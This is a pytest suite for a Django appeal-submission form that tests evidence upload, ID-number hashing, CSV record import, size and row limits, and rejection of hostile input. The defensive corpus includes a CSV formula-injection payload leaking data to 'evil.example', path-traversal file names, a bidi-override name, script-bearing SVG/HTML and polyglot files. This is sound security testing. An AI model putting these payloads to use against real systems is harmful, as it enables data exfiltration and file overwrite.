"""Filing an appeal through the public form (`/appeals/new/<type_code>/`)."""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.db import connection
from django.urls import reverse

from evidence.models import Evidence
from tests import files
from tests.tickets.factories import VALID_ID_NUMBER, AgentFactory, records_management, submission
from tickets.models import Appeal, AppealEvent, LoginDeviceRecord, OutboundEmail, RechargeRecord
from tickets.outbox.services import outbox_deliver

APPEAL_TYPE_CODES = ["realname_unbind", "phone_rebind", "access_card_unbind", "account_recovery", "emergency_freeze"]


def post_appeal(client, appeal_type, data, **extra):
    return client.post(reverse("tickets:new", args=[appeal_type.code]), data, HTTP_ACCEPT_LANGUAGE="en", **extra)


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


def assert_nothing_stored(evidence_root: Path):
    assert Appeal.objects.count() == 0
    assert Evidence.objects.count() == 0
    assert RechargeRecord.objects.count() == 0
    assert OutboundEmail.objects.count() == 0
    assert stored_files(evidence_root) == []


@pytest.mark.parametrize("code", APPEAL_TYPE_CODES)
def test_each_appeal_type_files_with_valid_evidence(client, appeal_types, evidence_root, code):
    appeal_type = appeal_types[code]
    response = post_appeal(client, appeal_type, submission(appeal_type))

    appeal = Appeal.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("tickets:submitted", args=[appeal.reference])
    assert appeal.state == "submitted"
    assert appeal.appeal_type == appeal_type
    assert sorted(appeal.evidence.values_list("kind", flat=True)) == sorted(appeal_type.required_evidence)
    assert len(stored_files(evidence_root)) == len(appeal_type.required_evidence)
    hours = appeal_type.sla_hours
    assert (appeal.sla_due_at - appeal.created_at).total_seconds() == hours * 3600
    assert (appeal.sla_warn_at - appeal.created_at).total_seconds() == hours * 3600 * 0.75
    assert AppealEvent.objects.filter(appeal=appeal, kind="submit").count() == 1
    acknowledgement = OutboundEmail.objects.get(appeal=appeal, template="acknowledgement")
    assert acknowledgement.to == "li.lei@example.com"
    assert outbox_deliver(email_id=acknowledgement.pk)  # rendered by the worker as it sends it
    acknowledgement.refresh_from_db()
    assert appeal.reference in acknowledgement.subject


def test_reference_is_short_readable_and_not_sequential(client, appeal_types):
    appeal_type = appeal_types["access_card_unbind"]
    for _ in range(3):
        post_appeal(client, appeal_type, submission(appeal_type))
    references = list(Appeal.objects.values_list("reference", flat=True))
    assert len(set(references)) == 3
    for reference in references:
        assert len(reference) == 12 and reference.startswith("AP-") and reference[7] == "-"
        assert not set(reference[3:].replace("-", "")) & set("01IOL")


def test_evidence_is_stored_privately_under_random_names(client, appeal_types, evidence_root):
    appeal_type = appeal_types["realname_unbind"]
    post_appeal(client, appeal_type, submission(appeal_type))
    for item in Evidence.objects.all():
        path = Path(item.file.path)
        assert path.is_relative_to(evidence_root)
        assert item.original_name not in path.name
        assert item.content_type == "image/jpeg"
        assert len(item.sha256) == 64
        with pytest.raises(ValueError):
            item.file.url  # noqa: B018 - evidence has no public URL


def test_id_number_is_nowhere_in_the_database_in_plain_text(client, appeal_types):
    appeal_type = appeal_types["realname_unbind"]
    post_appeal(client, appeal_type, submission(appeal_type, id_number="110105 19491231 002x"))
    appeal = Appeal.objects.get()
    assert appeal.id_number_last4 == "002X"
    assert appeal.id_number_masked == "**************002X"
    assert len(appeal.id_number_hmac) == 64

    needles = {VALID_ID_NUMBER, VALID_ID_NUMBER.lower(), "11010519491231"}
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            cursor.execute(f'SELECT * FROM "{table}"')  # noqa: S608 - table names come from introspection
            for row in cursor.fetchall():
                text = " ".join(str(value) for value in row)
                assert not any(needle in text for needle in needles), f"ID number found in {table}"


def test_the_same_id_number_gives_the_same_hmac(client, appeal_types):
    appeal_type = appeal_types["realname_unbind"]
    post_appeal(client, appeal_type, submission(appeal_type))
    post_appeal(client, appeal_type, submission(appeal_type, id_number="11010519491231002x"))
    first, second = Appeal.objects.order_by("created_at")
    assert first.id_number_hmac == second.id_number_hmac


def test_records_are_saved_from_rows_and_from_csv(client, appeal_types):
    appeal_type = appeal_types["account_recovery"]
    csv_text = "订单号,金额,币种,支付时间,商品\nTX-CSV-1,30.00,cny,2026-10-01 12:30,月卡\nTX-CSV-2,6,CNY,2026-10-02 09:00,\n"
    data = submission(appeal_type, recharge_csv=files.upload("recharges.csv", csv_text.encode("gb18030"), "text/csv"))
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 302
    orders = set(RechargeRecord.objects.values_list("order_number", flat=True))
    assert orders == {"TX20261101001", "TX-CSV-1", "TX-CSV-2"}
    assert RechargeRecord.objects.get(order_number="TX-CSV-1").currency == "CNY"
    assert LoginDeviceRecord.objects.get().device_model == "iPhone 15"
    assert Evidence.objects.filter(kind="recharge_record", content_type="text/csv").count() == 1


def test_removed_record_rows_are_not_saved(client, appeal_types):
    appeal_type = appeal_types["account_recovery"]
    data = submission(appeal_type)
    data.update(records_management(recharge=2, device=1))
    data.update(
        {
            "recharge-1-order_number": "REMOVE-ME",
            "recharge-1-amount": "1",
            "recharge-1-currency": "CNY",
            "recharge-1-paid_at": "2026-11-02T10:00",
            "recharge-1-DELETE": "on",
        }
    )
    assert post_appeal(client, appeal_type, data).status_code == 302
    assert list(RechargeRecord.objects.values_list("order_number", flat=True)) == ["TX20261101001"]


# --- Refusals: a clear message next to the field, and nothing stored ------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("id_front.jpg", files.elf_executable_bytes(), "is not a JPEG, PNG or WebP image or a PDF"),
        ("id_front.jpg", b"<html><script>alert(1)</script></html>", "is not a JPEG, PNG or WebP image or a PDF"),
        (
            "id_front.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "is not a JPEG, PNG or WebP image or a PDF",
        ),
        ("id_front.jpg", b"", "The submitted file is empty."),
        ("id_front.jpg", files.truncated_jpeg_bytes(), "damaged or incomplete"),
        ("id_front.png", files.png_bomb_bytes(), "too many pixels"),
    ],
    ids=["executable-renamed-jpg", "html-renamed-jpg", "svg-with-script", "zero-bytes", "truncated-jpeg", "png-bomb"],
)
def test_wrong_content_is_refused_next_to_its_field(client, appeal_types, evidence_root, name, content, message):
    appeal_type = appeal_types["realname_unbind"]
    data = submission(appeal_type, evidence_id_front=files.upload(name, content, "image/jpeg"))
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 400
    errors = response.context["form"].uploads.errors
    assert message in " ".join(errors["evidence_id_front"])
    assert message in response.content.decode()
    assert_nothing_stored(evidence_root)


@pytest.mark.parametrize(
    ("content", "message", "max_bytes"),
    [
        (lambda: files.noise_png_bytes(10.5), "This file is too large: the limit is 10.0\xa0MB.", None),
        # Small on disk (one colour compresses to almost nothing): the pixel count is what is refused.
        (
            lambda: files.large_canvas_png_bytes(8000, 6000),
            "This image has too many pixels: the limit is 40 megapixels.",
            1024 * 1024,
        ),
    ],
    ids=["over-10-mb", "over-40-megapixels"],
)
def test_image_over_a_limit_is_refused(client, appeal_types, evidence_root, content, message, max_bytes):
    appeal_type = appeal_types["realname_unbind"]
    image = files.upload("id_back.png", content(), "image/png")
    if max_bytes:
        assert image.size < max_bytes
    response = post_appeal(client, appeal_type, submission(appeal_type, evidence_id_back=image))
    assert response.status_code == 400
    assert message in response.context["form"].uploads.errors["evidence_id_back"]
    assert_nothing_stored(evidence_root)


def test_more_than_20_files_are_refused(client, appeal_types, evidence_root):
    appeal_type = appeal_types["realname_unbind"]
    extra = [files.jpeg(f"other-{i}.jpg", width=64, height=48, seed=i) for i in range(18)]
    response = post_appeal(client, appeal_type, submission(appeal_type, evidence_other=extra))
    assert response.status_code == 400
    assert "Too many files: at most 20 per appeal (you chose 21)." in response.context["form"].uploads.non_field_errors()
    assert_nothing_stored(evidence_root)


def test_more_than_50_mb_in_all_is_refused(client, appeal_types, evidence_root):
    appeal_type = appeal_types["realname_unbind"]
    chunk = files.noise_png_bytes(9.5)
    extra = [files.upload(f"scan-{i}.png", chunk, "image/png") for i in range(6)]
    response = post_appeal(client, appeal_type, submission(appeal_type, evidence_other=extra))
    assert response.status_code == 400
    assert (
        "The files are too large together: at most 50.0\xa0MB per appeal." in response.context["form"].uploads.non_field_errors()
    )
    assert_nothing_stored(evidence_root)


def test_csv_over_2_mb_is_refused(client, appeal_types, evidence_root):
    appeal_type = appeal_types["account_recovery"]
    rows = "order_number,amount,currency,paid_at,product\n" + "TX1,1.00,CNY,2026-10-01 12:00,x\n" * 70_000
    data = submission(appeal_type, recharge_csv=files.upload("big.csv", rows.encode(), "text/csv"))
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 400
    assert "This file is too large: the limit is 2.0\xa0MB." in response.context["form"].uploads.errors["recharge_csv"]
    assert_nothing_stored(evidence_root)


def test_csv_rows_with_errors_are_reported_row_by_row(client, appeal_types, evidence_root):
    appeal_type = appeal_types["account_recovery"]
    csv_text = "order_number,amount,currency,paid_at,product\nTX1,abc,CNY,2026-10-01 12:00,x\nTX2,5,CNY,yesterday,y\n"
    data = submission(appeal_type, recharge_csv=files.upload("r.csv", csv_text.encode(), "text/csv"))
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 400
    errors = response.context["form"].uploads.errors["recharge_csv"]
    assert any(e.startswith("Row 2, Amount:") for e in errors)
    assert any(e.startswith("Row 3, Paid at:") for e in errors)
    assert_nothing_stored(evidence_root)


def test_a_program_renamed_csv_is_refused(client, appeal_types, evidence_root):
    appeal_type = appeal_types["account_recovery"]
    data = submission(appeal_type, device_csv=files.upload("devices.csv", files.elf_executable_bytes(), "text/csv"))
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 400
    assert "is not a CSV text file" in " ".join(response.context["form"].uploads.errors["device_csv"])
    assert_nothing_stored(evidence_root)


def test_missing_required_evidence_kind_is_refused(client, appeal_types, evidence_root):
    appeal_type = appeal_types["realname_unbind"]
    data = submission(appeal_type)
    del data["evidence_id_handheld"]
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 400
    assert response.context["form"].uploads.errors["evidence_id_handheld"] == ["Please upload: Photo of you holding the ID card."]
    assert_nothing_stored(evidence_root)


def test_account_recovery_needs_a_recharge_and_a_device_record(client, appeal_types, evidence_root):
    appeal_type = appeal_types["account_recovery"]
    data = {k: v for k, v in submission(appeal_type).items() if not k.startswith(("recharge-0", "device-0"))}
    data["recharge-0-currency"] = "CNY"  # the blank row as a browser sends it: only the pre-filled currency
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 400
    assert response.context["form"].records_errors == [
        "Add at least 1 recharge record(s): a row below or a CSV file.",
        "Add at least 1 login device record(s): a row below or a CSV file.",
    ]
    assert_nothing_stored(evidence_root)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("id_number", "110105194912310021", "This ID number is not valid"),
        ("id_number", "../etc/passwd", "letters and digits only"),
        ("contact_email", "not-an-email", "Enter a valid email address."),
        ("letter_background", "", "This field is required."),
        ("account_identifier", "", "This field is required."),
    ],
)
def test_invalid_fields_are_refused_with_their_message(client, appeal_types, evidence_root, field, value, message):
    appeal_type = appeal_types["realname_unbind"]
    response = post_appeal(client, appeal_type, submission(appeal_type, **{field: value}))
    assert response.status_code == 400
    assert message in " ".join(response.context["form"].appeal.errors[field])
    assert_nothing_stored(evidence_root)


def test_emergency_freeze_takes_only_the_last_four_id_characters(client, appeal_types, evidence_root):
    appeal_type = appeal_types["emergency_freeze"]
    response = post_appeal(client, appeal_type, submission(appeal_type, id_number=VALID_ID_NUMBER))
    assert response.status_code == 400
    assert response.context["form"].appeal.errors["id_number"]
    assert_nothing_stored(evidence_root)


def test_a_failure_while_saving_leaves_no_file_behind(client, appeal_types, evidence_root, monkeypatch):
    from tickets.services import intake

    def broken_enqueue(**kwargs):
        raise RuntimeError("outbox unavailable")

    monkeypatch.setattr(intake, "outbox_enqueue_unrendered", broken_enqueue)
    appeal_type = appeal_types["realname_unbind"]
    client.raise_request_exception = True
    with pytest.raises(RuntimeError):
        post_appeal(client, appeal_type, submission(appeal_type))
    assert_nothing_stored(evidence_root)


def test_unknown_or_closed_appeal_type_is_404(client, appeal_types):
    assert client.get("/appeals/new/no_such_type/").status_code == 404
    appeal_types["phone_rebind"].is_active = False
    appeal_types["phone_rebind"].save()
    assert client.get("/appeals/new/phone_rebind/").status_code == 404


def test_form_shows_the_required_evidence_of_its_type(en_client, appeal_types):
    response = en_client.get("/appeals/new/phone_rebind/")
    html = response.content.decode()
    assert response.status_code == 200
    assert 'name="evidence_carrier_certificate"' in html
    assert 'name="new_phone"' in html
    assert 'name="recharge-TOTAL_FORMS"' not in html


def test_confirmation_page_shows_the_reference_and_no_personal_data(en_client, appeal_types):
    appeal_type = appeal_types["phone_rebind"]
    post_appeal(en_client, appeal_type, submission(appeal_type))
    appeal = Appeal.objects.get()
    html = en_client.get(reverse("tickets:submitted", args=[appeal.reference])).content.decode()
    assert appeal.reference in html
    assert "72 hours" in html
    for private in (appeal.contact_email, appeal.registered_phone, appeal.new_phone, appeal.account_identifier):
        assert private not in html


def test_submission_is_rate_limited_per_ip(client, appeal_types, settings):
    settings.RATELIMIT_SUBMIT_PER_IP = "2/h"
    appeal_type = appeal_types["access_card_unbind"]
    for _ in range(2):
        assert post_appeal(client, appeal_type, submission(appeal_type)).status_code == 302
    response = post_appeal(client, appeal_type, submission(appeal_type))
    assert response.status_code == 429
    assert "Too many attempts" in response.content.decode()
    assert Appeal.objects.count() == 2


# --- The rest of the bad-input corpus ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("id_front.jpg", files.polyglot_jpeg_html_bytes(), "contains web page code or an archive hidden inside it"),
        ("id_front.jpg", files.polyglot_jpeg_zip_bytes(), "contains web page code or an archive hidden inside it"),
        ("id_front.pdf", files.pdf_with_javascript_bytes(), "This PDF contains scripts, actions or attached files"),
    ],
    ids=["jpeg-html-polyglot", "jpeg-zip-polyglot", "pdf-with-javascript"],
)
def test_polyglots_and_active_pdfs_are_refused(client, appeal_types, evidence_root, name, content, message):
    appeal_type = appeal_types["realname_unbind"]
    response = post_appeal(client, appeal_type, submission(appeal_type, evidence_id_front=files.upload(name, content)))
    assert response.status_code == 400
    assert message in " ".join(response.context["form"].uploads.errors["evidence_id_front"])
    assert_nothing_stored(evidence_root)


@pytest.mark.parametrize(
    ("sent_name", "kept_name"),
    [
        ("../../../../etc/cron.d/evil.jpg", "evil.jpg"),
        ("..\\..\\windows\\evil.jpg", "evil.jpg"),
        ("身份证正面.jpg", "身份证正面.jpg"),
        ("photo\u202egpj.exe", "photogpj.exe"),  # a right-to-left override hiding the real extension
    ],
    ids=["dot-dot-slash", "dot-dot-backslash", "chinese-name", "bidi-override"],
)
def test_file_names_are_only_data_and_never_paths(client, appeal_types, evidence_root, tmp_path, sent_name, kept_name):
    appeal_type = appeal_types["realname_unbind"]
    photo = files.upload(sent_name, files.photo_bytes(400, 300), "image/jpeg")
    assert post_appeal(client, appeal_type, submission(appeal_type, evidence_id_front=photo)).status_code == 302
    evidence = Evidence.objects.get(kind="id_front")
    assert evidence.original_name == kept_name
    stored = Path(evidence.file.path).resolve()
    assert stored.is_relative_to(Path(evidence_root).resolve()) and kept_name not in stored.name
    assert all(p.resolve().is_relative_to(Path(evidence_root).resolve()) for p in stored_files(evidence_root))
    assert not (tmp_path.parent / "etc").exists()


def test_id_images_need_explicit_consent(client, appeal_types, evidence_root):
    appeal_type = appeal_types["realname_unbind"]
    data = submission(appeal_type)
    del data["consent_id_images"]
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 400
    assert response.context["form"].appeal.errors["consent_id_images"] == ["We cannot process your appeal without this consent."]
    assert_nothing_stored(evidence_root)


def test_consent_is_recorded_with_the_text_shown(client, appeal_types):
    appeal_type = appeal_types["realname_unbind"]
    post_appeal(client, appeal_type, submission(appeal_type))
    appeal = Appeal.objects.get()
    assert appeal.consent_id_images_at is not None
    assert "identity document" in appeal.consent_text and "180 days after the decision" in appeal.consent_text


def test_no_consent_question_without_id_images(client, appeal_types):
    html = client.get(reverse("tickets:new", args=["access_card_unbind"])).content.decode()
    assert 'name="consent_id_images"' not in html


def test_csv_formula_injection_is_inert_in_the_console_and_its_export(client, appeal_types):
    appeal_type = appeal_types["account_recovery"]
    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    text = (
        "order_number,amount,currency,paid_at,product\n"
        + f'TX-1,5,CNY,2026-10-01 10:00,"{payload.replace(chr(34), chr(34) * 2)}"\n'
    )
    assert (
        post_appeal(
            client, appeal_type, submission(appeal_type, recharge_csv=files.upload("r.csv", text.encode(), "text/csv"))
        ).status_code
        == 302
    )
    appeal = Appeal.objects.get()
    assert RechargeRecord.objects.get(order_number="TX-1").product == payload

    client.force_login(AgentFactory())
    html = client.get(reverse("desk:appeal", args=[appeal.reference])).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in html
    assert 'href="http://evil.example' not in html
    export = b"".join(client.get(reverse("desk:records_csv", args=[appeal.reference])).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(export)))
    (row,) = [r for r in rows if r[2] == "TX-1"]
    assert row[5] == "'" + payload


# --- Records: at most APPEAL_MAX_RECORD_ROWS of each kind, rows on the page and CSV rows together ---


def count_device_record_validations(monkeypatch) -> list:
    """Count every login-device row the server validates (page rows and CSV rows alike)."""
    from tickets.portal.forms import LoginDeviceRecordForm

    calls = []
    full_clean = LoginDeviceRecordForm.full_clean

    def counting(form):
        calls.append(1)
        return full_clean(form)

    monkeypatch.setattr(LoginDeviceRecordForm, "full_clean", counting)
    return calls


def test_a_csv_of_130000_rows_is_refused_after_reading_just_past_the_limit(
    client, appeal_types, evidence_root, settings, monkeypatch
):
    appeal_type = appeal_types["account_recovery"]
    content = files.many_rows_records_csv_bytes(130_000)
    assert len(content) <= settings.EVIDENCE_MAX_CSV_BYTES
    validated = count_device_record_validations(monkeypatch)
    data = submission(appeal_type, device_csv=files.upload("devices.csv", content, "text/csv"))
    response = post_appeal(client, appeal_type, data)
    assert response.status_code == 400
    message = "Too many records: at most 200 of each kind per appeal, rows on the page and rows in the CSV file together."
    assert response.context["form"].uploads.errors["device_csv"] == [message]
    assert message in response.content.decode()
    # The page's row and the CSV rows up to the limit: the rest of the file is never validated.
    assert len(validated) <= settings.APPEAL_MAX_RECORD_ROWS + 2
    assert_nothing_stored(evidence_root)
    assert LoginDeviceRecord.objects.count() == 0


def records_csv(rows: int) -> bytes:
    return b"order_number,amount,currency,paid_at\n" + b"".join(b"TX-%d,1,CNY,2026-10-01\n" % i for i in range(rows))


def test_page_rows_and_csv_rows_over_the_limit_together_are_refused(client, appeal_types, evidence_root):
    appeal_type = appeal_types["account_recovery"]
    # One recharge row typed on the page (from `submission`) and 200 in the CSV: 201 of the 200 allowed.
    data = submission(appeal_type, recharge_csv=files.upload("r.csv", records_csv(200), "text/csv"))
    response = post_appeal(client, appeal_type, data, HTTP_ACCEPT="application/json")
    assert response.status_code == 400
    assert response.json()["errors"]["recharge_csv"] == [
        "Too many records: at most 200 of each kind per appeal, rows on the page and rows in the CSV file together."
    ]
    assert_nothing_stored(evidence_root)


def test_page_rows_and_csv_rows_up_to_the_limit_are_accepted(client, appeal_types):
    appeal_type = appeal_types["account_recovery"]
    data = submission(appeal_type, recharge_csv=files.upload("r.csv", records_csv(199), "text/csv"))
    assert post_appeal(client, appeal_type, data).status_code == 302
    assert RechargeRecord.objects.count() == 200


def test_the_full_cap_of_rows_typed_on_the_page_is_accepted(client, appeal_types):
    """200 rows of each kind typed on the page: about 2,400 inputs, all within the request's field bound."""
    appeal_type = appeal_types["account_recovery"]
    cap = settings.APPEAL_MAX_RECORD_ROWS
    data = submission(appeal_type)
    data.update(records_management(recharge=cap, device=cap))
    for i in range(cap):
        data.update(
            {
                f"recharge-{i}-order_number": f"TX-{i}",
                f"recharge-{i}-amount": "1",
                f"recharge-{i}-currency": "CNY",
                f"recharge-{i}-paid_at": "2026-11-02T10:00",
                f"recharge-{i}-product": "coins",
                f"device-{i}-seen_at": "2026-10-30T08:00",
                f"device-{i}-ip_address": "203.0.113.7",
                f"device-{i}-device_model": "iPhone 15",
                f"device-{i}-device_id": f"D-{i}",
                f"device-{i}-location": "Shanghai",
            }
        )
    assert post_appeal(client, appeal_type, data).status_code == 302
    assert RechargeRecord.objects.count() == LoginDeviceRecord.objects.count() == cap


def test_the_page_rows_share_the_same_configurable_limit(en_client, appeal_types, evidence_root, settings):
    settings.APPEAL_MAX_RECORD_ROWS = 3
    appeal_type = appeal_types["account_recovery"]
    html = en_client.get(reverse("tickets:new", args=[appeal_type.code])).content.decode()
    assert 'name="recharge-MAX_NUM_FORMS" value="3"' in html
    assert "Up to 3 records of this kind: the rows here and the rows of the CSV file together." in html

    data = submission(appeal_type)
    data.update(records_management(recharge=4, device=1))
    for i in range(1, 4):
        data.update(
            {
                f"recharge-{i}-order_number": f"TX-{i}",
                f"recharge-{i}-amount": "1",
                f"recharge-{i}-currency": "CNY",
                f"recharge-{i}-paid_at": "2026-11-02T10:00",
            }
        )
    response = post_appeal(en_client, appeal_type, data)
    assert response.status_code == 400
    assert response.context["form"].recharge.non_form_errors() == ["Too many records: at most 3 of each kind per appeal."]
    assert_nothing_stored(evidence_root)

    data = submission(
        appeal_type, device_csv=files.upload("d.csv", b"seen_at,device_model\n" + b"2026-10-01,A\n" * 3, "text/csv")
    )
    response = post_appeal(en_client, appeal_type, data)
    assert response.status_code == 400
    assert response.context["form"].uploads.errors["device_csv"] == [
        "Too many records: at most 3 of each kind per appeal, rows on the page and rows in the CSV file together."
    ]
    assert_nothing_stored(evidence_root)
